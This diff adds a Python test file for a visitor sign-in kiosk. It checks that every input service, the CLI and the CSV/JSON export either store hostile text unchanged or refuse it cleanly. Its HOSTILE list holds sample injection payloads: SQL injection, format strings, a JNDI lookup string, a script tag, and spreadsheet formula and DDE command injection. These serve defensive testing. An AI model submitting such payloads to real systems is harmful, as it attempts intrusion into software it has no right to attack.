@@ -1,0 +1,160 @@
+"""Hostile input through every service a visitor or a staff member can type into, and through
+the export: SQL injection, format strings, right-to-left overrides, zero-width characters,
+control characters, 10,000-character lines, and hypothesis's arbitrary text. Nothing raises
+anything but the documented refusal (FieldError) or "not found", and what is stored comes
+back unchanged through the CSV and JSON exports, read with csv and json."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from kiosk.domain import FieldError, SignInForm, normalise_text
+from kiosk.export import EXPORT_COLUMNS, ExportFormat, export_visits
+from kiosk.setup import Kiosk, Services
+from kiosk.visits import BadgeAlreadyUsed, UnknownBadge, UnknownVisit
+
+HOSTILE = [
+    "Robert'); DROP TABLE visits;--",
+    "' OR '1'='1",
+    '" OR ""="',
+    "%s%s%s%n%x",
+    "{0} {name} {__class__}",
+    "${jndi:ldap://example.invalid/a}",
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://example.invalid","x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\u202eevil\u202c right-to-left override",
+    "zero\u200bwidth\u200cjoin\u200dchars\ufeff",
+    "tab\there\r\nnew line\x00nul\x1bescape",
+    "\u0000",
+    "   ",
+    "Ünïcödé Ø æ ß ñ 中文 عربى עברית",
+    "x" * 10_000,
+    "a, b; c | d \\ e / f",
+    "\ud7ff\ue000\U0001f600",
+]
+
+
+def store(services: Services, kiosk: Kiosk, text: str) -> str | None:
+    """Sign a visitor in with `text` in every field; the stored name, or None if refused."""
+    form = SignInForm(text, text, text, text)
+    try:
+        visit = services.visits.sign_in(form, kiosk.notice("en"))
+    except FieldError:
+        return None
+    assert visit.visitor_name == normalise_text(text)
+    return visit.visitor_name
+
+
+def exported(services: Services) -> tuple[list[dict[str, str]], list[dict[str, object]]]:
+    out_csv, out_json = io.StringIO(newline=""), io.StringIO()
+    first, last = date(2000, 1, 1), date(2100, 12, 31)
+    export_visits(services.store, first, last, ExportFormat.CSV, out_csv)
+    export_visits(services.store, first, last, ExportFormat.JSON, out_json)
+    rows = list(csv.DictReader(io.StringIO(out_csv.getvalue(), newline="")))
+    return rows, json.loads(out_json.getvalue())
+
+
+def unguard(cell: str) -> str:
+    """A CSV cell as stored: the export's formula guard (a leading ') taken off again."""
+    return cell[1:] if cell[:2] in {f"'{c}" for c in "=+-@\t\r"} else cell
+
+
+def assert_round_trip(services: Services) -> None:
+    stored = [
+        dict(zip(EXPORT_COLUMNS, row, strict=True))
+        for row in services.db.execute(
+            f"SELECT {', '.join(EXPORT_COLUMNS)} FROM visits ORDER BY signed_in_at"
+        )
+    ]
+    rows, records = exported(services)
+    assert len(rows) == len(records) == len(stored)
+    for row, record, original in zip(rows, records, stored, strict=True):
+        for column in ("visitor_name", "company", "host", "purpose"):
+            assert unguard(row[column]) == original[column]
+            assert record[column] == original[column]
+        assert int(row["visit_id"]) == record["visit_id"] == original["visit_id"]
+
+
+def test_the_hostile_corpus_is_stored_as_typed_or_refused_and_exports_back(
+    kiosk: Kiosk, services: Services
+) -> None:
+    kept = [name for text in HOSTILE if (name := store(services, kiosk, text)) is not None]
+    assert len(kept) >= len(HOSTILE) - 4  # only empty, blank and over-long input is refused
+    assert services.db.execute("SELECT count(*) FROM visits").fetchone()[0] == len(kept)
+    assert_round_trip(services)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_every_lookup_takes_hostile_text(kiosk: Kiosk, services: Services, text: str) -> None:
+    store(services, kiosk, "Ann Smith")
+    with pytest.raises((UnknownBadge, BadgeAlreadyUsed, UnknownVisit)):
+        services.visits.sign_out_by_badge(text)
+    assert services.visits.on_site_named(text) == []
+    shown = services.visits.search_present(text)
+    assert shown == [] or normalise_text(text) == ""  # an empty search lists everyone
+    assert services.rights.find(text) == []
+
+
+@settings(
+    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(texts=st.lists(st.text(max_size=120), min_size=1, max_size=4))
+def test_any_text_is_stored_or_refused_and_exports_back(
+    kiosk: Kiosk, services: Services, texts: list[str]
+) -> None:
+    services.db.execute("DELETE FROM visits")
+    for text in texts:
+        store(services, kiosk, text)
+    assert_round_trip(services)
+
+
+ARG = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=40)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
+@given(
+    command=st.sampled_from(["export", "present", "demo", "purge", "check", "evacuation"]),
+    options=st.lists(
+        st.tuples(
+            st.sampled_from(["--from", "--to", "--format", "--visits", "--days", "--out", "--x"]),
+            ARG,
+        ),
+        max_size=4,
+    ),
+    extra=st.lists(ARG, max_size=2),
+)
+def test_any_command_line_ends_in_a_clear_exit(
+    tmp_path_factory: pytest.TempPathFactory,
+    capsys: pytest.CaptureFixture[str],
+    command: str,
+    options: list[tuple[str, str]],
+    extra: list[str],
+) -> None:
+    """Whatever is typed after a command: exit 0, or an exit code with one clear line on
+    stderr, never a traceback and never "unexpected error"."""
+    from kiosk.cli import main
+
+    data = tmp_path_factory.mktemp("cli")
+    argv = ["--data-dir", str(data), command]
+    for option, value in options:
+        if option == "--out":
+            value = str(data / f"out-{value.replace('/', '_')}"[:200])
+        argv += [option, value]
+    argv += extra
+    with pytest.raises(SystemExit) as ended:
+        main(argv)
+    err = capsys.readouterr().err
+    assert "Traceback" not in err
+    assert "unexpected error" not in err
+    if ended.value.code not in (0, None):
+        assert err.strip(), f"exit {ended.value.code} without a word for {argv}"
